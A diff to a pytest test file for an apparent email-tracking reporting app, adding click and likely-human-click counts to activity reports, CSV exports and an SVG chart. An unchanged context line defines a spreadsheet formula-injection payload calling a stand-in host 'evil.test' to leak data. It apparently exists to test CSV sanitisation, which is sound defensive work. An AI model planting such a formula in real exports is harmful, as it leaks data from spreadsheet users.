@@ -24,10 +24,11 @@ from datetime import datetime
 
 import pytest
 
-from coretrack.models import AccessEvent, Account, Contact, Email, Lead, Recipient, User
+from coretrack.models import AccessEvent, Account, ClickEvent, Contact, Email, EmailLink, Lead, Recipient, User
 from coretrack.reports.catalog import REPORTS
 from coretrack.reports.export import csv_cell, csv_lines
 from coretrack.reports.filters import parse_filters
+from coretrack.tracking import click_verdicts
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?leak","Click")'
 
@@ -309,6 +310,31 @@ def test_activity_counts_accesses_and_distinct_recipients_per_day_with_empty_day
     assert (body["total_accesses"], body["unique_recipients"]) == (8, 5)
 
 
+def test_activity_counts_clicks_and_likely_human_clicks_per_day_and_hour_beside_the_loads(db, staff, data):
+    ada, carl = data.recipients["e1:ada"], data.recipients["e2:carl"]
+    link = EmailLink(email_id=ada.email_id, position=0, url="https://example.test/a")
+    db.add(link)
+    db.flush()
+    db.add_all([ClickEvent(recipient_id=ada.id, link_id=link.id, at=at(3, 11, 5), hits=2),
+                ClickEvent(recipient_id=ada.id, link_id=link.id, at=at(3, 11, 6), verdict="scanner",
+                           reason=click_verdicts.BURST_REASON),
+                ClickEvent(recipient_id=carl.id, link_id=link.id, at=at(5, 23, 59), verdict="scanner",
+                           reason="headless browser", hits=3)])
+    db.commit()
+    body = api(staff, "activity", **WEEK)
+    assert columns(body["rows"], "bucket", "accesses", "clicks", "human_clicks")[1:5] == [
+        ("2026-03-02", 1, 0, 0), ("2026-03-03", 3, 3, 2), ("2026-03-04", 1, 0, 0), ("2026-03-05", 3, 3, 0)]
+    assert (body["total_clicks"], body["total_human_clicks"]) == (6, 2)
+    hours = api(staff, "activity", by="hour", **{"from": "2026-03-05", "to": "2026-03-05"}, per_page=50)["rows"]
+    assert [(row["bucket"], row["clicks"]) for row in hours if row["clicks"]] == [("2026-03-05 23:00", 3)]
+    # Only the emails the filters keep: tess sent none of the clicked ones.
+    assert api(staff, "activity", sender="tess", **WEEK)["total_clicks"] == 0
+    page = staff.get("/reports/activity", params=WEEK)
+    assert "6 clicks, 2 likely by a person" in page.html.select_one("#report-summary").text
+    csv_rows = list(csv.reader(io.StringIO(staff.get("/reports/activity.csv", params=WEEK).body.decode("utf-8-sig"))))
+    assert csv_rows[3] == ["2026-03-03", "3", "2", "3", "3", "2", "0"]
+
+
 def test_activity_counts_every_load_an_event_stands_for(app, db, staff, data):
     from coretrack.tracking.hits import Hit
 
@@ -365,12 +391,12 @@ def test_the_activity_page_draws_an_accessible_svg_chart_beside_its_numbers(staf
                                         "8 accesses by 5 measured recipients")
     assert svg.select_one("title").text.startswith("Accesses and unique opens per day")
     bars = svg.select("rect > title")
-    assert [bar.text for bar in bars][2] == "2026-03-03: 3 accesses, 2 unique opens"
+    assert [bar.text for bar in bars][2] == "2026-03-03: 3 accesses, 2 unique opens, 0 clicks"
     assert len(svg.select_one("polyline")["points"].split()) == 7
     heights = [float(rect["height"]) for rect in svg.select("rect") if rect.select_one("title")]
     assert heights[2] == heights[4] == max(heights) and heights[0] == 0  # 3 accesses on the 3rd and the 5th
     table = [[cell.text.strip() for cell in row.select("td")] for row in page.html.select(".activity tbody tr")]
-    assert table[2] == ["2026-03-03", "3", "2", "3", "0"]  # and no anonymous load
+    assert table[2] == ["2026-03-03", "3", "2", "3", "0", "0", "0"]  # no click, no anonymous load
     # Drawn on the server: nothing to run, nothing fetched.
     assert not svg.select("script") and "http" not in svg.decode().replace("http://www.w3.org/2000/svg", "")
 
@@ -413,8 +439,10 @@ def test_the_csv_export_takes_the_same_filters_as_the_page(staff, data):
     ]
     activity = staff.get("/reports/activity.csv", params={**WEEK, "sender": "admin"}).body.decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(activity)))[:4] == [
-        ["Time (UTC)", "Accesses", "Unique opens", "Likely-human opens", "Anonymous loads"],
-        ["2026-03-01", "0", "0", "0", "0"], ["2026-03-02", "0", "0", "0", "0"], ["2026-03-03", "1", "1", "1", "0"]]
+        ["Time (UTC)", "Accesses", "Unique opens", "Likely-human opens", "Clicks", "Likely-human clicks",
+         "Anonymous loads"],
+        ["2026-03-01", "0", "0", "0", "0", "0", "0"], ["2026-03-02", "0", "0", "0", "0", "0", "0"],
+        ["2026-03-03", "1", "1", "1", "0", "0", "0"]]
 
 
 def test_the_csv_link_on_a_page_carries_its_filters(staff, data):
